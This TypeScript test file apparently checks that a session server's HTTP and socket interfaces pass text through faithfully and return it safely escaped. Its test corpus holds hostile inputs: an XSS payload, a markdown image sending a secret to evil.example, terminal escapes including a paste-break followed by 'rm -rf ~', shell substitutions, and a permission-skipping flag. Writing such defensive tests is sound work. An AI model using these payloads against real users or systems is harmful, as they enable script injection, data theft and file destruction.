/** What people and agents say is text, on its way in and on its way out, whatever it looks like. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { refuse } from "@skein/contract";
import { TOKENS, openHouse, type House } from "./house.ts";
import { dialIn, type Wire } from "./wire.ts";

const corpus = [
  "</script><img src=x onerror=alert(1)>",
  "[x](javascript:alert(1))",
  "![](https://evil.example/?secret)",
  "\u001b]52;c;cHduZWQ=\u0007",
  "\u001b[2J\u001bc",
  "\u001b[201~\nrm -rf ~\n",
  "a\rb\nc",
  "C-c Enter ; #{pane_id}",
  "-rf",
  "--dangerously-skip-permissions",
  "$(id) `id` ${HOME} && id",
  "\u202e\u200b\u2066hidden",
  '{"__proto__":1}',
  "\ud83d\ude00 grün",
  "data: x\n\nid: 999\n\n",
];

let house: House;
let wire: Wire;
beforeAll(async () => {
  house = await openHouse({
    operate: async (name, input) => {
      if (name === "sessions.rename")
        throw refuse("name_taken", `no: ${JSON.stringify(input)}`, "other");
      return { echoed: input };
    },
  });
  wire = await dialIn(house.port, TOKENS.admin);
});
afterAll(async () => {
  wire.close();
  await house[Symbol.asyncDispose]();
});

describe.each(corpus)("%j", (text) => {
  test("as a prompt arrives as it was sent, over HTTP and over the socket", async () => {
    const path = "/api/sessions/fizz/send";
    const answer = await house.ask({
      method: "POST",
      path,
      token: TOKENS.write,
      body: JSON.stringify({ text }),
    });
    expect(answer.status).toBe(200);
    expect(house.calls.at(-1)?.input).toMatchObject({ session: "fizz", text, how: "queue" });
    expect((await wire.call("sessions.send", { session: "fizz", text })).ok).toBe(true);
    expect(house.calls.at(-1)?.input).toMatchObject({ session: "fizz", text });
  });

  test("comes back as JSON that no browser takes for a page and no terminal for a command", async () => {
    const answer = await house.ask({
      method: "PATCH",
      path: "/api/sessions/fizz",
      token: TOKENS.write,
      body: JSON.stringify({ description: text }),
    });
    expect(answer.status).toBe(409);
    expect(answer.headers["content-type"]).toBe("application/json; charset=utf-8");
    expect(answer.headers["x-content-type-options"]).toBe("nosniff");
    expect(answer.text).not.toMatch(/[\u0000-\u001f\u007f]/);
  });

  test("in a place where it cannot be is refused, and what is said about it is harmless", async () => {
    const refused = await house.ask({
      path: `/api/sessions?${encodeURIComponent(text)}=1`,
      token: TOKENS.read,
    });
    expect(refused.status).toBe(400);
    expect(refused.text).not.toMatch(/[\u0000-\u001f\u007f]/);
    const unknown = await wire.call(text.slice(0, 100));
    expect(unknown.ok).toBe(false);
    expect(unknown.error?.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b\u202e]/);
  });
});

test("what an operation breaks on stays in the log", async () => {
  await using other = await openHouse({
    operate: async () => {
      throw new Error("ENOENT /home/me/.secret canary");
    },
  });
  const answer = await other.ask({ path: "/api/sessions", token: TOKENS.read });
  expect(answer.status).toBe(500);
  expect(answer.json().error?.code).toBe("internal");
  expect(answer.text).not.toContain("canary");
  expect(other.lines.join()).toContain("canary");
});
